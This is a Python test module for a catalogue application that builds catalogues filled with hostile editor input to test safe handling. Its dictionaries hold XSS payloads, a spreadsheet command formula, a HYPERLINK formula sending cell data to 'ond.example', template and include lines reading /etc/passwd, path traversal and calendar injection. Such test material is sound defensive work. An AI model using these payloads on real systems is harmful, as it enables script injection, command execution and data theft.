"""Words that an editor may write and that somebody else's program might take for more than words."""

import dataclasses
from typing import Any

from katalog.catalog import Catalog
from katalog.model import Post
from katalog.values import Tekst

HOSTILE = {
    "markup": "<script>alert(1)</script>",
    "an attribute": '"><img src=x onerror=alert(1)>',
    "a formula": "=cmd|'/c calc'!A0",
    "a formula with plus": "+1+1",
    "a formula with minus": "-2+3",
    "a formula with at": "@SUM(1+1)",
    "a wide formula": "＝1+1",
    "an apostrophe first": "'=1",
    "quotes and separators": 'a","b";"c|d\\|e\\',
    "a line of a calendar": "Møte\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Falsk",
    "a line break alone": "to\nlinjer",
    "a carriage return alone": "to\rlinjer",
    "marks of a calendar": "a;b,c:d\\n\\e",
    "a mark of a page": "[katalog:akutt] @@innhold@@ {{ 7*7 }} {% raw %}",
    "letters beyond the first plane": "👩‍👩‍👧 𝔘 " * 12,
    "lines that are no lines here": "a\u2028b\u2029c\u0085d",
    "letters from right to left": "\u202eשלום",
    "a long line": "å" * 119,
}
# And words that pages, addresses and files might take for more, or find no room for; some are too long for most fields.
MORE = {
    "a template": "{{ cycler.__init__.__globals__ }}{% include '../../etc/passwd' %}{{ ord }}",
    "a mark of a part": '[bare:eget] [/bare] @@rot@@ @@ord_meny@@ <!--#include virtual="/etc/passwd" -->',
    "a script as an address": "javascript:window.truffet=1//",
    "the end of a script": "</script></title></textarea></style><script>window.truffet=1</script>",
    "the end of data": "]]><!--<script>--!><svg onload=window.truffet=1>",
    "an attribute without quotes": "' onmouseover='window.truffet=1' autofocus onfocus=window.truffet=1 x='",
    "entities": "&lt;img src=x onerror=window.truffet=1&gt; &amp;quot; &#x26;",
    "a way out": "../../../../utenfor",
    "a way out of another system": "..\\..\\utenfor\\C:utenfor.txt",
    "a whole way": "/etc/passwd",
    "what a program calls nothing": "null",
    "what a program calls true": "true",
    "no number": "NaN",
    "what every object has": "constructor",
    "what every object comes from": "__proto__",
    "a long word": "W" * 119,
    "a longer word": "W" * 299,
    "the longest word": "W" * 1199,
    "a long address": "https://example.org/" + "w" * 99,
    "letters on letters": "a" + "\u0301\u0302\u0303" * 3,
    "letters that nobody sees": "\u3164\u00ad\u2800\ufe0f",
    "soft hyphens and joiners": "\u00ad\u200c\u200d" * 9 + "ord",
    "a field of a sheet": "\t=1+1",
    "a formula behind a blank": ' =HYPERLINK("https://ond.example/?"&A1)',
    "a link of a text": "[trykk her](javascript:window.truffet=1) ![x](https://ond.example/x.png) <https://ond.example>",
    "somebody elses site": "https://bank.example.org@ond.example/",
    "letters that look alike": "https://ex\u0430mple.org/",
    "a script as data": "data:text/html,<script>window.truffet=1</script>",
    "a letter with more in it": "post@example.org?bcc=ond@ond.example&body=x",
    "a number with more in it": "tel:22222222;phone-context=ond.example",
}
# What no file may hold, since an editor cannot see it: written out in quotes it is told, and so it is as it stands.
FORBIDDEN = {
    "a zero": "a\x00b",
    "a bell and an escape": "\x07\x1b[31mrød\x1b]8;;https://ond.example\x1b\\",
    "a delete": "a\x7fb",
    "a next line": "a\x85b",
    "a change of direction": "\u202etxt.exe",
    "an isolate that stays open": "\u2067abc",
    "nothing wide": "fore\u200bldre",
    "a mark of order": "\ufeffforeldre",
    "a line that is none": "a\u2028b",
}

# The fields of plain text that are no address, no number, no name of a value and no date.
_PLAIN = ("paragraf", "fil", "av", "fra_hash")


def hostile_catalog(catalog: Catalog, text: str) -> Catalog:
    """Return the catalogue with *text* in every place where an editor writes words."""
    tiltak = {key: spoilt(one, text) for key, one in catalog.tiltak.items()}
    nasjonalt = {key: spoilt(one, text) for key, one in catalog.nasjonalt.items()}
    kommuner = {key: one.model_copy(update={"ansvarlig": text}) for key, one in catalog.kommuner.items()}
    return dataclasses.replace(catalog, tiltak=tiltak, nasjonalt=nasjonalt, kommuner=kommuner)


def spoilt(value: Any, text: str) -> Any:
    """Return a value with *text* for each of its texts."""
    if isinstance(value, Tekst):
        return Tekst(dict.fromkeys(value.ord, text), value.eget)
    if isinstance(value, Post):
        fields = {name: spoilt(getattr(value, name), text) for name in type(value).model_fields}
        words = {name: text for name in _PLAIN if fields.get(name)}
        everyday = {"hverdagsord": {"nb": [text, text]}} if fields.get("hverdagsord") else {}
        return value.model_copy(update={**fields, **words, **everyday})
    if isinstance(value, list):
        return [spoilt(one, text) for one in value]
    return {key: spoilt(one, text) for key, one in value.items()} if isinstance(value, dict) else value
